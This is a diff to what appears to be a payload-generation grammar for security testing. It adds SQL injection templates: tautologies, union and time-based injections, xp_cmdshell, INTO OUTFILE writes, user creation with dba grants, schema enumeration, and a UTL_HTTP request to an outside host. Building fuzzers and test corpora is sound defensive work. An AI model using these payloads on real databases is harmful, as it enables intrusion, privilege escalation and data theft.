@@ -102,6 +102,19 @@ stacked:
   ;declare @q nvarchar(4000);select @q=0x«hex(30)»;exec(@q)
 pre = «n» «n» «n» «w» -«n» admin «n».«digit(4)»
 sqli:
+  «sqlclassic»
+  «sqlclassic»
+  «sqlclassic»
+  «sqlunion»
+  «sqlstatement»
+sqlunion:
+  «pre»«quote»«sep:s»«union»«sep:s»«dash»
+  «pre»«quote» «union»
+  «pre»«sep:s»«union»
+  «pre»«sep:s»and«sep:s»«n:1»=«n»«sep:s»«union»«dash»
+  «pre»«quote»)«sep:s»«union»«dash»
+  '«union»«dash»
+sqlclassic:
   «pre»«quote» «or» «eq»
   «pre»«quote» «or» «eq»«dash»
   «pre»«quote» «or» «eq» «dash»
@@ -160,6 +173,51 @@ sqli:
   «n»' || '«w»'='«w»
   '; if («n»=«n») waitfor delay '0:0:«nz»'«dash»
   case «n» when «n» then 1 else (select «n» union select 2) end
+sqlstatement:
+  or a=a
+  or a = a
+   or x=x--
+  or isNULL(1/0) /*
+  or (EXISTS)
+   or 1/*
+  and sleep(«nz»)=0
+  AND SLEEP(«nz»)
+  «n»||«n»
+  «n»/*«w»*/or/*«w»*/«n»/*«w»*/like/*«w»*/«n»
+  «n»'+not+like+'«n»
+  «n» and «n»=«n»
+  «n») INTO OUTFILE '«w»'--
+  declare @q nvarchar (200) select @q = 0x«hex(20)» exec(@q)
+  declare @s varchar (8000) select @s = 0x«hex(30)»
+  select name from syscolumns where id = (select id from sysobjects where name = '«table»')
+  select grantee from syscat.dbauth;
+  select current server from sysibm.sysdummy1;
+  select usesuper from pg_user where usename = current_user;
+  select @@version where @@version like '%«n»%'
+  select schema_name from information_schema.schemata
+  select table_name from all_tables
+  select sql from sqlite_master where type='table'
+  create user «w» identified by '«w»'
+  create table «w» (input text);
+  grant dba to «w»
+  ' insert into users(login, password, level) values( char(0x70) + char(0x65),char(0x«hex(2)»),«n»)--
+  exec sp_makewebtask "\«ip»\«w»\«w».html", "select * from information_schema.tables"
+  exec xp_regread
+  '; exec master..xp_cmdshell 'ping «ip»'--
+  bulk insert «w» from 'c:\«w»'
+  RANDOMBLOB(«digit(9)»/2)
+  '||UTL_HTTP.REQUEST('http://«host»/')||'
+  '||dbms_pipe.receive_message(('a'),«nz»)||'
+  «n» procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)
+  «n»' having '1'='1
+  «n»' group by users.id having 1=1--
+  %' and «n»=«n» and '%'='
+  «w»' like '%
+  ''||(select «n» from dual)||'
+  «n»"||"
+  («n»-vsize(chr(«digit(2)»))+«n»)
+  («n»-@@error+«n»)
+  («n»-pg_backend_pid()+«n»)
 op = $ne $gt $lt $gte $lte $regex $exists $in $nin $where $eq $not $or $and $type $size $expr $function $nor $all
 field = username password user pass email login token id role name
 nosql:
